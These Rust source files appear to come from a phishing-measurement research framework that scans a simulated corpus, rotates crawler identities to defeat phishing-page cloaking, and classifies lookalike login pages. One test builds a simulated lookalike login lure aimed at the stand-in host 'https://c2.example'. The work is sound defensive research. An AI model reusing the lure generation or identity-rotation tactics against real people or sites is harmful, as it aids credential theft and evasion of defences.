pub struct PolicyMemory {
    /// Cell key → learned policy.
    pub cells: BTreeMap<String, Policy>,
}

impl PolicyMemory {
    /// Name of the store state blob holding the serialized memory.
    pub const STATE_NAME: &'static str = "adaptive-policy.json";

    /// The memory key of one experiment cell.
    pub fn key(family: &str, budget: u32) -> String {
        format!("{family}/{budget}")
    }

    /// Load the memory persisted in `store`. A missing or unparseable
    /// blob is a cold start, not an error.
    pub fn load(store: &cb_store::Store) -> PolicyMemory {
        store
            .state(PolicyMemory::STATE_NAME)
            .and_then(|bytes| serde_json::from_slice(&bytes).ok())
            .unwrap_or_default()
    }

    /// Durably persist the memory into `store`.
    ///
    /// # Errors
    ///
    /// I/O failure writing the state blob.
    pub fn save(&self, store: &cb_store::Store) -> std::io::Result<()> {
        let bytes = serde_json::to_vec_pretty(self).expect("policy memory serializes");
        store.put_state(PolicyMemory::STATE_NAME, &bytes)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_sim::SeedFork;

    fn rng() -> StdRng {
        SeedFork::new(7).rng("bandit-test")
    }

    #[test]
    fn fresh_policy_walks_the_canonical_sweep_in_order() {
        let mut policy = Policy::new();
        let mut race = RaceState::default();
        let mut r = rng();
        let expected = canonical_probes();
        for &want in &expected {
            let got = policy.select(&race, &mut r);
            assert_eq!(got, want, "sweep must run in canonical order");
            policy.observe(got, CloakVerdict::BenignDecoy);
            race.note(got, CloakVerdict::BenignDecoy);
        }
    }

    #[test]
    fn rotation_refuses_to_repeat_a_winning_identity() {
        let space = Arm::space();
        let mut policy = Policy::new();
        let mut race = RaceState::default();
        let mut r = rng();
        let winner = Arm::notabot().index();
        policy.observe(winner, CloakVerdict::Uncloaked);
        race.note(winner, CloakVerdict::Uncloaked);
        let next = policy.select(&race, &mut r);
        assert!(
            space[next].ua != space[winner].ua || space[next].egress != space[winner].egress,
            "after a capture the next arm must rotate UA or egress"
        );
    }

    #[test]
    fn champion_converges_on_the_winning_arm() {
        let mut policy = Policy::new();
        let winner = canonical_probes()[1];
        for i in canonical_probes() {
            let verdict =
                if i == winner { CloakVerdict::Uncloaked } else { CloakVerdict::BenignDecoy };
            policy.observe(i, verdict);
        }
        assert_eq!(policy.champion(), winner);
        // A fresh race exploits the champion in the overwhelming majority
        // of RNG streams (epsilon only ever diverts ~14% of selections).
        let exploits = (0..100)
            .filter(|&i| {
                let mut r = SeedFork::new(7).rng_indexed("sel", i);
                policy.select(&RaceState::default(), &mut r) == winner
            })
            .count();
        assert!(exploits >= 60, "greedy path must dominate, got {exploits}/100");
    }

    #[test]
    fn memory_round_trips_through_json() {
        let mut memory = PolicyMemory::default();
        let mut policy = Policy::new();
        policy.observe(3, CloakVerdict::Uncloaked);
        memory.cells.insert(PolicyMemory::key("qr-mobile-gate", 8), policy);
        let bytes = serde_json::to_vec(&memory).unwrap();
        let back: PolicyMemory = serde_json::from_slice(&bytes).unwrap();
        assert_eq!(back, memory);
    }
}
