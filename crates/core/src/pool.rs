//! The shared work-stealing pool primitive: scoped threads pulling task
//! indices from an atomic counter into a pre-sized slot vector.
//!
//! This is the exact shape `scan_all`'s work-stealing scheduler has always
//! used; it is factored out here so other subsystems (cb-store's parallel
//! shard recovery and compaction) fan out over the same primitive instead
//! of growing their own thread plumbing. Results come back in task order
//! regardless of which worker ran what; a task whose worker died (panic)
//! leaves `None` in its slot for the caller to turn into a degraded result
//! or an error.

use parking_lot::Mutex;
use std::sync::atomic::{AtomicUsize, Ordering};

/// Run `tasks` closures over `workers` threads with work stealing.
///
/// `f(worker, task)` is called exactly once per task index in `0..tasks`
/// (unless a worker panics mid-task); results land at their task index.
/// With `workers <= 1` or a single task everything runs on the calling
/// thread as worker 0 — no threads spawned.
///
/// Each worker thread runs with its `cb_telemetry` worker id set, so
/// per-worker trace attribution works for any caller.
pub fn run_stealing<T, F>(workers: usize, tasks: usize, f: F) -> Vec<Option<T>>
where
    T: Send,
    F: Fn(usize, usize) -> T + Sync,
{
    if workers <= 1 || tasks <= 1 {
        cb_telemetry::set_worker(Some(0));
        let out = (0..tasks).map(|i| Some(f(0, i))).collect();
        cb_telemetry::set_worker(None);
        return out;
    }
    let workers = workers.min(tasks);
    let next = AtomicUsize::new(0);
    let mut slots: Vec<Mutex<Option<T>>> = Vec::new();
    slots.resize_with(tasks, || Mutex::new(None));
    let _ = crossbeam::thread::scope(|scope| {
        for w in 0..workers {
            let next = &next;
            let slots = &slots;
            let f = &f;
            scope.spawn(move |_| {
                cb_telemetry::set_worker(Some(w));
                loop {
                    let i = next.fetch_add(1, Ordering::Relaxed);
                    if i >= tasks {
                        break;
                    }
                    *slots[i].lock() = Some(f(w, i));
                }
                cb_telemetry::set_worker(None);
            });
        }
    });
    slots.into_iter().map(Mutex::into_inner).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;
    use std::sync::atomic::AtomicUsize;

    #[test]
    fn results_land_in_task_order() {
        let out = run_stealing(4, 32, |_, i| i * 10);
        assert_eq!(out.len(), 32);
        for (i, slot) in out.iter().enumerate() {
            assert_eq!(*slot, Some(i * 10));
        }
    }

    #[test]
    fn single_worker_runs_inline() {
        let out = run_stealing(1, 3, |w, i| (w, i));
        assert_eq!(out, vec![Some((0, 0)), Some((0, 1)), Some((0, 2))]);
    }

    #[test]
    fn zero_tasks_is_empty() {
        let out: Vec<Option<usize>> = run_stealing(4, 0, |_, i| i);
        assert!(out.is_empty());
    }

    #[test]
    fn every_task_runs_exactly_once() {
        let calls = AtomicUsize::new(0);
        let out = run_stealing(8, 100, |_, i| {
            calls.fetch_add(1, Ordering::Relaxed);
            i
        });
        assert_eq!(calls.load(Ordering::Relaxed), 100);
        let seen: HashSet<usize> = out.into_iter().flatten().collect();
        assert_eq!(seen.len(), 100);
    }

    #[test]
    fn panicking_task_leaves_none_others_complete() {
        let out = run_stealing(2, 8, |_, i| {
            if i == 3 {
                panic!("task 3 dies");
            }
            i
        });
        assert_eq!(out[3], None);
        // Only the claiming worker dies; the surviving worker drains the
        // counter, so every other task completes.
        assert_eq!(out.iter().filter(|s| s.is_some()).count(), 7);
    }
}
