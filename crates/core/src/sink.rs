//! Record sinks for the streaming scan pipeline.
//!
//! [`CrawlerBox::scan_stream`](crate::pipeline::CrawlerBox::scan_stream)
//! delivers each [`ScanRecord`] to a [`RecordSink`] in message order
//! instead of collecting a `Vec`, so aggregations that only need counters
//! (the §V class mix, the agreement-rate check, streaming moments) run in
//! O(1) memory regardless of corpus scale. A `Vec<ScanRecord>` is itself a
//! sink, so batch-style collection remains a one-liner where retention is
//! actually wanted.

use crate::analysis::tables::ClassMix;
use crate::logging::ScanRecord;
use cb_phishgen::MessageClass;
use parking_lot::Mutex;
use std::sync::Arc;

/// Consumer of streaming scan records.
///
/// [`accept`](RecordSink::accept) is called exactly once per scanned
/// message, in message order (the pipeline's reorder buffer restores order
/// before delivery), on the thread that called `scan_stream` — sinks never
/// need to be `Send` or `Sync`.
pub trait RecordSink {
    /// Accept the next record, in message order.
    fn accept(&mut self, record: ScanRecord);
}

/// Producer-side record encoding for
/// [`scan_stream_encoded`](crate::pipeline::CrawlerBox::scan_stream_encoded):
/// runs on the scan workers, right after the record is produced, so
/// CPU-heavy sink preparation (canonical serialization, checksumming,
/// framing) rides the worker pool instead of serializing on the delivery
/// thread.
///
/// The encoder is shared by every worker (`Sync`) and its output travels
/// through the stream channels (`Encoded: Send`). It may mutate the record
/// — e.g. take its artifact bytes — as long as the mutation is one the
/// downstream sink expects; the record itself is still delivered to the
/// sink in message order.
pub trait RecordEncoder: Sync {
    /// The worker-produced encoding shipped alongside each record.
    type Encoded: Send;

    /// Encode `record` on the worker that scanned it.
    fn encode(&self, record: &mut ScanRecord) -> Self::Encoded;
}

/// The identity encoder: no producer-side work. The plain
/// [`RecordSink`] path of `scan_stream` is `scan_stream_encoded` with this
/// encoder, which keeps the owned-record path as the reference oracle for
/// the encoded one.
#[derive(Debug, Clone, Copy, Default)]
pub struct NoopEncoder;

impl RecordEncoder for NoopEncoder {
    type Encoded = ();

    fn encode(&self, _record: &mut ScanRecord) {}
}

/// Consumer of streaming records plus their producer-side encoding.
///
/// Like [`RecordSink`], `accept_encoded` is called exactly once per
/// scanned message, in message order, on the calling thread.
pub trait EncodedSink<E> {
    /// Accept the next record and its worker-produced encoding.
    fn accept_encoded(&mut self, record: ScanRecord, encoded: E);
}

/// Every plain record sink is an encoded sink for the unit encoding, so
/// `scan_stream` can delegate to the encoded pipeline unchanged.
impl<S: RecordSink> EncodedSink<()> for S {
    fn accept_encoded(&mut self, record: ScanRecord, _encoded: ()) {
        self.accept(record);
    }
}

/// Collecting into a vector reproduces batch behaviour (and batch memory).
impl RecordSink for Vec<ScanRecord> {
    fn accept(&mut self, record: ScanRecord) {
        self.push(record);
    }
}

/// The unit sink discards every record — the no-op inner sink for
/// composing wrappers (e.g. a store sink that only persists).
impl RecordSink for () {
    fn accept(&mut self, _record: ScanRecord) {}
}

/// Counts records without retaining any of them — the O(1)-memory floor a
/// streaming scan can run against.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct CountingSink {
    /// Records delivered.
    pub records: usize,
    /// Records carrying error provenance (degraded scans: isolated panics,
    /// exhausted retries surfaced at record level).
    pub degraded: usize,
}

impl CountingSink {
    /// A fresh counter.
    pub fn new() -> CountingSink {
        CountingSink::default()
    }
}

impl RecordSink for CountingSink {
    fn accept(&mut self, record: ScanRecord) {
        self.records += 1;
        if record.error.is_some() {
            self.degraded += 1;
        }
    }
}

/// Shared ground-truth ledger for streaming agreement checks.
///
/// The corpus stream yields messages in id order; tapping it with
/// [`note`](TruthLedger::note) (e.g. via `Iterator::inspect`) records each
/// message's ground-truth class at index = message id. The scan side of the
/// pipeline may run on other threads, so the ledger is cheaply cloneable
/// and internally synchronized. A message is always noted before its
/// record can be delivered, so lookups by delivered records never miss.
#[derive(Debug, Clone, Default)]
pub struct TruthLedger {
    classes: Arc<Mutex<Vec<MessageClass>>>,
}

impl TruthLedger {
    /// An empty ledger.
    pub fn new() -> TruthLedger {
        TruthLedger::default()
    }

    /// Record the ground-truth class of the next message (messages arrive
    /// in id order, so position doubles as message id).
    pub fn note(&self, class: MessageClass) {
        self.classes.lock().push(class);
    }

    /// Ground truth of message `id`, if noted.
    pub fn truth_of(&self, id: usize) -> Option<MessageClass> {
        self.classes.lock().get(id).copied()
    }

    /// Number of messages noted so far.
    pub fn len(&self) -> usize {
        self.classes.lock().len()
    }

    /// Whether nothing has been noted yet.
    pub fn is_empty(&self) -> bool {
        self.classes.lock().is_empty()
    }
}

/// Incremental §V class-mix counters with an optional streaming
/// agreement-rate check against a [`TruthLedger`].
///
/// Equivalent to `ClassMix::of(&records)` plus the ground-truth agreement
/// loop, without ever materializing `records`.
#[derive(Debug, Clone, Default)]
pub struct ClassMixSink {
    truth: Option<TruthLedger>,
    total: usize,
    no_resource: usize,
    error_pages: usize,
    interaction_required: usize,
    downloads: usize,
    active_phish: usize,
    agreed: usize,
    compared: usize,
}

impl ClassMixSink {
    /// A class-mix sink without an agreement check.
    pub fn new() -> ClassMixSink {
        ClassMixSink::default()
    }

    /// A class-mix sink that also compares every record's derived class
    /// against the ground truth noted in `ledger`.
    pub fn with_truth(ledger: TruthLedger) -> ClassMixSink {
        ClassMixSink {
            truth: Some(ledger),
            ..ClassMixSink::default()
        }
    }

    /// The class mix accumulated so far.
    pub fn mix(&self) -> ClassMix {
        ClassMix {
            total: self.total,
            no_resource: self.no_resource,
            error_pages: self.error_pages,
            interaction_required: self.interaction_required,
            downloads: self.downloads,
            active_phish: self.active_phish,
        }
    }

    /// Share of records whose derived class matched ground truth, or `None`
    /// when no comparison happened (no ledger, or nothing delivered).
    pub fn agreement_rate(&self) -> Option<f64> {
        (self.compared > 0).then(|| self.agreed as f64 / self.compared as f64)
    }

    /// Records delivered so far.
    pub fn total(&self) -> usize {
        self.total
    }
}

impl RecordSink for ClassMixSink {
    fn accept(&mut self, record: ScanRecord) {
        self.total += 1;
        match record.class {
            MessageClass::NoResource => self.no_resource += 1,
            MessageClass::ErrorPage => self.error_pages += 1,
            MessageClass::InteractionRequired => self.interaction_required += 1,
            MessageClass::Download => self.downloads += 1,
            MessageClass::ActivePhish => self.active_phish += 1,
        }
        if let Some(ledger) = &self.truth {
            if let Some(t) = ledger.truth_of(record.message_id) {
                self.compared += 1;
                if t == record.class {
                    self.agreed += 1;
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_sim::SimTime;

    fn record(id: usize, class: MessageClass, error: Option<&str>) -> ScanRecord {
        ScanRecord {
            message_id: id,
            content_hash: 0,
            delivered_at: SimTime::EPOCH,
            auth_pass: false,
            extracted: Vec::new(),
            visits: Vec::new(),
            body_bytes: 10,
            blank_line_run: 0,
            class,
            error: error.map(str::to_string),
            artifacts: Vec::new(),
        }
    }

    #[test]
    fn vec_sink_collects_in_order() {
        let mut sink: Vec<ScanRecord> = Vec::new();
        sink.accept(record(0, MessageClass::NoResource, None));
        sink.accept(record(1, MessageClass::ActivePhish, None));
        assert_eq!(sink.len(), 2);
        assert_eq!(sink[1].message_id, 1);
    }

    #[test]
    fn counting_sink_counts_degraded() {
        let mut sink = CountingSink::new();
        sink.accept(record(0, MessageClass::NoResource, None));
        sink.accept(record(1, MessageClass::NoResource, Some("scan panicked: boom")));
        assert_eq!(sink.records, 2);
        assert_eq!(sink.degraded, 1);
    }

    #[test]
    fn class_mix_sink_matches_batch_class_mix() {
        let records = vec![
            record(0, MessageClass::NoResource, None),
            record(1, MessageClass::ActivePhish, None),
            record(2, MessageClass::ErrorPage, None),
            record(3, MessageClass::ActivePhish, None),
            record(4, MessageClass::Download, None),
            record(5, MessageClass::InteractionRequired, None),
        ];
        let batch = ClassMix::of(&records);
        let mut sink = ClassMixSink::new();
        for r in records {
            sink.accept(r);
        }
        assert_eq!(sink.mix(), batch);
        assert_eq!(sink.total(), 6);
        assert!(sink.agreement_rate().is_none(), "no ledger, no comparison");
    }

    #[test]
    fn agreement_rate_compares_against_ledger() {
        let ledger = TruthLedger::new();
        assert!(ledger.is_empty());
        ledger.note(MessageClass::NoResource);
        ledger.note(MessageClass::ActivePhish);
        ledger.note(MessageClass::ErrorPage);
        assert_eq!(ledger.len(), 3);
        assert_eq!(ledger.truth_of(1), Some(MessageClass::ActivePhish));
        assert_eq!(ledger.truth_of(9), None);

        let mut sink = ClassMixSink::with_truth(ledger);
        sink.accept(record(0, MessageClass::NoResource, None));
        sink.accept(record(1, MessageClass::ActivePhish, None));
        sink.accept(record(2, MessageClass::NoResource, None)); // disagrees
        let rate = sink.agreement_rate().expect("compared records");
        assert!((rate - 2.0 / 3.0).abs() < 1e-12, "{rate}");
    }

    #[test]
    fn default_sinks_match_new() {
        assert_eq!(CountingSink::default(), CountingSink::new());
        let d = ClassMixSink::default();
        assert_eq!(d.mix(), ClassMixSink::new().mix());
        assert_eq!(d.total(), 0);
    }

    #[test]
    fn agreement_rate_is_none_on_empty_sink() {
        // Nothing delivered yet: no comparisons even with a ledger attached.
        let ledger = TruthLedger::new();
        ledger.note(MessageClass::ActivePhish);
        let sink = ClassMixSink::with_truth(ledger);
        assert!(sink.agreement_rate().is_none());
    }

    #[test]
    fn agreement_rate_is_none_without_ledger() {
        // Records delivered but no truth ledger: still no comparisons.
        let mut sink = ClassMixSink::new();
        sink.accept(record(0, MessageClass::Download, None));
        sink.accept(record(1, MessageClass::ErrorPage, None));
        assert!(sink.agreement_rate().is_none());
        assert_eq!(sink.total(), 2);
    }

    #[test]
    fn agreement_rate_skips_records_beyond_ledger() {
        // A record whose id was never noted is counted in the mix but not
        // in the agreement comparison.
        let ledger = TruthLedger::new();
        ledger.note(MessageClass::NoResource);
        let mut sink = ClassMixSink::with_truth(ledger);
        sink.accept(record(0, MessageClass::NoResource, None));
        sink.accept(record(7, MessageClass::ActivePhish, None)); // never noted
        let rate = sink.agreement_rate().expect("one compared record");
        assert!((rate - 1.0).abs() < 1e-12, "{rate}");
        assert_eq!(sink.total(), 2);
    }
}
