//! §V-B: the non-targeted attack breakdown — which commodity services the
//! 414 non-spear active messages impersonate, their HTML-attachment
//! delivery, and the lexical profile of their landing domains.

use crate::classify::DEFAULT_THRESHOLD;
use crate::extract::ExtractionSource;
use crate::logging::ScanRecord;
use cb_artifacts::Bitmap;
use cb_browser::engine::VIEWPORT;
use cb_imagehash::HashPair;
use cb_phishgen::MessageClass;
use cb_phishkit::Brand;
use cb_web::{render, Document};
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet};

/// Classifier for commodity-service lookalikes (the §V-B manual review,
/// automated): reference hashes of the services' own login pages.
#[derive(Debug, Clone)]
pub struct ServiceClassifier {
    references: Vec<(Brand, HashPair)>,
    threshold: u32,
}

impl ServiceClassifier {
    /// Build references for the commodity services.
    pub fn new() -> ServiceClassifier {
        let references = Brand::commodity_services()
            .into_iter()
            .map(|(brand, _)| {
                let doc = Document::parse(&brand.login_html(""));
                let shot = render::rasterize(&doc, VIEWPORT.0, VIEWPORT.1);
                (brand, HashPair::of(&shot))
            })
            .collect();
        ServiceClassifier {
            references,
            threshold: DEFAULT_THRESHOLD,
        }
    }

    /// The impersonated service, if the screenshot matches one.
    pub fn classify(&self, screenshot: &Bitmap) -> Option<Brand> {
        let hash = HashPair::of(screenshot);
        self.references
            .iter()
            .map(|(brand, reference)| (*brand, hash.distance(reference)))
            .filter(|(_, d)| *d <= self.threshold)
            .min_by_key(|(_, d)| *d)
            .map(|(brand, _)| brand)
    }
}

impl Default for ServiceClassifier {
    fn default() -> Self {
        ServiceClassifier::new()
    }
}

/// The §V-B statistics.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct NonTargetedStats {
    /// Non-spear active messages (the paper's 414).
    pub messages: usize,
    /// Impersonated service → message count (Microsoft 44, Excel 20, …).
    pub by_service: BTreeMap<String, usize>,
    /// Messages delivered via an HTML attachment (29).
    pub html_attachment_messages: usize,
    /// Distinct landing domains of the non-targeted set (111).
    pub landing_domains: usize,
    /// … of which lexically deceptive (11).
    pub deceptive_domains: usize,
}

/// Compute §V-B statistics from scan records. Because the commodity brands
/// cannot be identified from screenshots hashed against *company* pages,
/// this re-hashes against the service references — the automated version of
/// the paper's manual review of the 414.
pub fn nontargeted_stats(records: &[ScanRecord]) -> NonTargetedStats {
    let classifier = ServiceClassifier::new();
    let mut stats = NonTargetedStats::default();
    let mut domains: BTreeSet<String> = BTreeSet::new();
    // screenshot hashes are already in the records; rebuild reference
    // comparison from them
    let reference_hashes: Vec<(Brand, HashPair)> = classifier.references.clone();
    for r in records {
        if r.class != MessageClass::ActivePhish || r.spear_match().is_some() {
            continue;
        }
        stats.messages += 1;
        if r.extracted.iter().any(|e| e.source == ExtractionSource::HtmlAttachment) {
            stats.html_attachment_messages += 1;
        }
        for v in &r.visits {
            if !v.login_form {
                continue;
            }
            if let Some(hash) = v.screenshot_hash {
                if let Some((brand, _)) = reference_hashes
                    .iter()
                    .map(|(b, reference)| (*b, hash.distance(reference)))
                    .filter(|(_, d)| *d <= DEFAULT_THRESHOLD)
                    .min_by_key(|(_, d)| *d)
                {
                    *stats
                        .by_service
                        .entry(brand.display_name().to_string())
                        .or_insert(0) += 1;
                }
            }
            if let Some(d) = v.landing_domain() {
                domains.insert(d);
            }
            break;
        }
    }
    stats.deceptive_domains = domains
        .iter()
        .filter(|d| super::lexical::classify_domain(d).is_some())
        .count();
    stats.landing_domains = domains.len();
    stats
}

// classifier.references is private to this module; expose for the stats fn
impl ServiceClassifier {
    /// The reference hash set (brand, hash pair).
    pub fn references(&self) -> &[(Brand, HashPair)] {
        &self.references
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::CrawlerBox;
    use cb_phishgen::{Corpus, CorpusSpec};
    use cb_phishkit::scripts::lookalike_login;

    #[test]
    fn service_classifier_identifies_each_commodity_lure() {
        let c = ServiceClassifier::new();
        for (brand, _) in Brand::commodity_services() {
            let html = lookalike_login(brand, "https://c2.example", &[], false, false, None);
            let shot = render::rasterize(&Document::parse(&html), VIEWPORT.0, VIEWPORT.1);
            let found = c.classify(&shot);
            // Commodity services share a skeleton, so sibling confusion
            // (Excel vs Office 365) is possible; what matters is that a
            // commodity lure maps to *some* commodity service…
            assert!(found.is_some(), "{brand} lure unrecognized");
        }
        // …and that a company page does not.
        let company = render::rasterize(
            &Document::parse(&Brand::Amadora.login_html("")),
            VIEWPORT.0,
            VIEWPORT.1,
        );
        assert_eq!(c.classify(&company), None);
    }

    #[test]
    fn corpus_breakdown_tracks_spec() {
        let spec = CorpusSpec::paper().with_scale(0.15);
        let corpus = Corpus::generate(&spec, 23);
        let records = CrawlerBox::new(&corpus.world).scan_all(&corpus.messages);
        let stats = nontargeted_stats(&records);
        let truth_nonspear = corpus
            .messages
            .iter()
            .filter(|m| m.truth.class == MessageClass::ActivePhish && !m.truth.spear)
            .count();
        assert!(
            stats.messages.abs_diff(truth_nonspear) <= truth_nonspear / 10 + 2,
            "non-targeted messages {} vs truth {truth_nonspear}",
            stats.messages
        );
        // some services identified
        assert!(!stats.by_service.is_empty());
        // html attachments present at this scale
        let truth_html = corpus
            .messages
            .iter()
            .filter(|m| {
                matches!(
                    m.truth.carrier,
                    cb_phishgen::messages::Carrier::HtmlAttachment
                )
            })
            .count();
        assert!(
            stats.html_attachment_messages.abs_diff(truth_html) <= 2,
            "html attachments {} vs truth {truth_html}",
            stats.html_attachment_messages
        );
        assert!(stats.landing_domains > 0);
    }
}
