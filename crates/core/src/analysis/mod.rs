//! The analysis phase: every table, figure and headline statistic of the
//! paper, re-derived from scan records and public world data.

pub mod cloaking;
pub mod faults;
pub mod figures;
pub mod lexical;
pub mod nontargeted;
pub mod report;
pub mod table1;
pub mod tables;
pub mod volumes;

pub use faults::{fault_sweep, FaultArm, FaultSweepReport};
pub use report::{AnalysisReport, analyze};
