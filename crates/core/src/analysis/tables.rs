//! Table II (TLD distribution) and the §V class-mix / spear statistics,
//! derived from scan records.

use crate::logging::ScanRecord;
use cb_netsim::DomainName;
use cb_phishgen::MessageClass;
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;

/// The §V class mix.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct ClassMix {
    /// Total scanned.
    pub total: usize,
    /// No embedded web resources.
    pub no_resource: usize,
    /// Error pages / dead infrastructure.
    pub error_pages: usize,
    /// Interaction required.
    pub interaction_required: usize,
    /// File downloads.
    pub downloads: usize,
    /// Active phishing.
    pub active_phish: usize,
}

impl ClassMix {
    /// Compute from records.
    pub fn of(records: &[ScanRecord]) -> ClassMix {
        let count = |c: MessageClass| records.iter().filter(|r| r.class == c).count();
        ClassMix {
            total: records.len(),
            no_resource: count(MessageClass::NoResource),
            error_pages: count(MessageClass::ErrorPage),
            interaction_required: count(MessageClass::InteractionRequired),
            downloads: count(MessageClass::Download),
            active_phish: count(MessageClass::ActivePhish),
        }
    }

    /// Share of a class, in percent.
    pub fn percent(&self, n: usize) -> f64 {
        n as f64 * 100.0 / self.total.max(1) as f64
    }
}

impl fmt::Display for ClassMix {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "total scanned:        {:>6}", self.total)?;
        writeln!(
            f,
            "no web resources:     {:>6} ({:.1}%)",
            self.no_resource,
            self.percent(self.no_resource)
        )?;
        writeln!(
            f,
            "error pages:          {:>6} ({:.1}%)",
            self.error_pages,
            self.percent(self.error_pages)
        )?;
        writeln!(
            f,
            "interaction required: {:>6} ({:.1}%)",
            self.interaction_required,
            self.percent(self.interaction_required)
        )?;
        writeln!(
            f,
            "downloads:            {:>6} ({:.1}%)",
            self.downloads,
            self.percent(self.downloads)
        )?;
        writeln!(
            f,
            "active phishing:      {:>6} ({:.1}%)",
            self.active_phish,
            self.percent(self.active_phish)
        )
    }
}

/// The distinct landing domains of active-phish records.
pub fn landing_domains(records: &[ScanRecord]) -> BTreeSet<String> {
    records
        .iter()
        .filter(|r| r.class == MessageClass::ActivePhish)
        .flat_map(|r| r.visits.iter())
        .filter(|v| v.login_form)
        .filter_map(|v| v.landing_domain())
        .collect()
}

/// The distinct landing URLs of active-phish records.
pub fn landing_urls(records: &[ScanRecord]) -> BTreeSet<String> {
    records
        .iter()
        .filter(|r| r.class == MessageClass::ActivePhish)
        .flat_map(|r| r.visits.iter())
        .filter(|v| v.login_form)
        .map(|v| v.final_url().to_string())
        .collect()
}

/// Table II: domains per TLD, rank-ordered.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Table2 {
    /// `(tld, count)` in descending count order.
    pub rows: Vec<(String, usize)>,
    /// Total distinct landing domains.
    pub total_domains: usize,
}

/// Compute Table II from scan records.
pub fn table2(records: &[ScanRecord]) -> Table2 {
    let domains = landing_domains(records);
    let mut counts: BTreeMap<String, usize> = BTreeMap::new();
    for d in &domains {
        *counts.entry(DomainName::new(d).tld()).or_insert(0) += 1;
    }
    let mut rows: Vec<(String, usize)> = counts.into_iter().collect();
    rows.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
    Table2 {
        total_domains: domains.len(),
        rows,
    }
}

impl Table2 {
    /// The paper's presentation: the top `k` TLDs plus an aggregated
    /// "Other" row.
    pub fn top_with_other(&self, k: usize) -> Vec<(String, usize)> {
        let mut out: Vec<(String, usize)> = self.rows.iter().take(k).cloned().collect();
        let other: usize = self.rows.iter().skip(k).map(|(_, n)| n).sum();
        if other > 0 {
            out.push(("Other".to_string(), other));
        }
        out
    }
}

impl fmt::Display for Table2 {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(f, "{:<8} {:>8} {:>8}", "TLD", "Domains", "Share")?;
        for (tld, n) in self.top_with_other(9) {
            writeln!(
                f,
                "{:<8} {:>8} {:>7.1}%",
                tld,
                n,
                n as f64 * 100.0 / self.total_domains.max(1) as f64
            )?;
        }
        writeln!(f, "total    {:>8}", self.total_domains)
    }
}

/// Spear statistics (§V-A).
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct SpearStats {
    /// Active-phish messages.
    pub active: usize,
    /// Classified as spear (company lookalikes).
    pub spear: usize,
    /// Spear messages whose pages hotlink resources from the impersonated
    /// organization's own domains.
    pub hotlinking: usize,
}

/// Compute spear statistics. A visit hotlinks when a subresource host is a
/// company domain while the page itself is not hosted there.
pub fn spear_stats(records: &[ScanRecord]) -> SpearStats {
    let company_hosts: Vec<&str> = cb_phishkit::Brand::companies()
        .iter()
        .map(|b| b.legit_domain())
        .collect::<Vec<_>>();
    let mut active = 0;
    let mut spear = 0;
    let mut hotlinking = 0;
    for r in records {
        if r.class != MessageClass::ActivePhish {
            continue;
        }
        active += 1;
        if r.spear_match().is_none() {
            continue;
        }
        spear += 1;
        let hotlinks = r.visits.iter().any(|v| {
            let own = v.landing_domain().unwrap_or_default();
            v.subresources.iter().any(|(u, status)| {
                *status == 200
                    && cb_netsim::Url::parse(u)
                        .map(|p| company_hosts.contains(&p.host.as_str()) && p.host != own)
                        .unwrap_or(false)
            })
        });
        if hotlinks {
            hotlinking += 1;
        }
    }
    SpearStats {
        active,
        spear,
        hotlinking,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::pipeline::CrawlerBox;
    use cb_phishgen::{Corpus, CorpusSpec};

    fn records() -> Vec<ScanRecord> {
        let corpus = Corpus::generate(&CorpusSpec::paper().with_scale(0.03), 31);
        let cbx = CrawlerBox::new(&corpus.world);
        cbx.scan_all(&corpus.messages)
    }

    #[test]
    fn class_mix_shares_track_the_paper() {
        let recs = records();
        let mix = ClassMix::of(&recs);
        assert_eq!(
            mix.total,
            mix.no_resource + mix.error_pages + mix.interaction_required + mix.downloads
                + mix.active_phish
        );
        assert!((mix.percent(mix.no_resource) - 49.6).abs() < 6.0);
        assert!((mix.percent(mix.active_phish) - 29.9).abs() < 6.0);
    }

    #[test]
    fn table2_counts_sum_to_domains() {
        let recs = records();
        let t2 = table2(&recs);
        let sum: usize = t2.rows.iter().map(|(_, n)| n).sum();
        assert_eq!(sum, t2.total_domains);
        assert!(t2.total_domains > 5);
        // .com leads
        assert_eq!(t2.rows[0].0, ".com");
    }

    #[test]
    fn spear_share_is_roughly_73_percent() {
        let recs = records();
        let s = spear_stats(&recs);
        assert!(s.active > 0);
        let share = s.spear as f64 / s.active as f64;
        assert!((0.55..=0.92).contains(&share), "spear share {share}");
        assert!(s.hotlinking <= s.spear);
        assert!(s.hotlinking > 0, "some lookalikes hotlink brand assets");
    }

    #[test]
    fn display_renders() {
        let recs = records();
        assert!(ClassMix::of(&recs).to_string().contains("active phishing"));
        assert!(table2(&recs).to_string().contains(".com"));
    }
}
