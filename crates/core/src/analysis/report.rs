//! The assembled analysis report: every experiment of DESIGN.md §3 in one
//! structure, renderable as the EXPERIMENTS.md comparison.

use crate::analysis::cloaking::{self, CloakingPrevalence};
use crate::analysis::figures::{self, Figure2, Figure3};
use crate::analysis::lexical::{self, LexicalStats};
use crate::analysis::nontargeted::{self, NonTargetedStats};
use crate::analysis::table1::{self, Table1};
use crate::analysis::tables::{self, ClassMix, SpearStats, Table2};
use crate::analysis::volumes::{self, DomainVolumeStats};
use crate::logging::ScanRecord;
use cb_netsim::Internet;
use cb_phishgen::{CorpusSpec, FunnelReport};
use cb_stats::TTestResult;
use serde::{Deserialize, Serialize};

/// Everything the analysis derives.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct AnalysisReport {
    /// Table I: crawler × detector matrix.
    pub table1: Table1,
    /// A1 ablation matrix.
    pub ablation: Table1,
    /// Table II: TLD distribution.
